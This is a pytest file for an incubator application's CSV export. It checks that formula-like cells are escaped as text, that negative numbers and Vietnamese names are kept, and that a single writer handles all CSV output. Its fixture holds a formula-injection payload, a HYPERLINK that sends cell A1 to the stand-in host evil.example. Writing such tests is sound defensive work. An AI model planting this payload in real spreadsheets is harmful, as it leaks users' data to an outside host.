"""Every CSV export goes through one writer: no cell reaches a spreadsheet as a formula."""

from __future__ import annotations

import codecs
import csv
import io
import re
from pathlib import Path

import pytest

from incubator.csv_export import csv_text
from incubator.review.models import Application
from tests.factories import ProgramFactory, StartupFactory

PACKAGE = Path(__file__).resolve().parents[2] / "incubator"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+A1", "'-1+A1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("-3.50", "-3.50"), (-3.5, "-3.5"),
     ("-1,234.5", "-1,234.5"), ("Nhuộm Xanh", "Nhuộm Xanh")],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_a_negative_number_stays_one(cell, written):
    assert cells(csv_text([[cell, 1]])) == [[written, "1"]]


def test_the_staff_export_and_the_open_data_neutralise_a_founders_formula(client, login_as, db):
    program = ProgramFactory()
    startup = StartupFactory(name=FORMULA, sector="@SUM(1+1)")
    db.session.add(Application(program_id=program.id, startup_id=startup.id, submitted_by_id=startup.owner_id,
                               status="submitted"))  # fmt: skip
    db.session.commit()
    login_as("staff")
    raw = client.get(f"/review/programs/{program.id}/applications.csv").get_data()
    assert raw.startswith(codecs.BOM_UTF8)  # Excel reads the Vietnamese right
    assert cells(raw.decode("utf-8-sig"))[1][:2] == [f"'{FORMULA}", "'@SUM(1+1)"]
    raw = client.get("/open-data/startups-by-sector.csv").get_data()
    assert raw.startswith(codecs.BOM_UTF8)
    sectors = cells(raw.decode("utf-8-sig"))
    assert sectors == [["sector", "startups"], ["'@SUM(1+1)", "1"]]


def test_no_module_writes_csv_but_the_one_writer():
    writers = [
        path.name
        for path in PACKAGE.rglob("*.py")
        if re.search(r"^\s*(import csv|from csv import)", path.read_text(encoding="utf-8"), re.M)
    ]
    assert writers == []
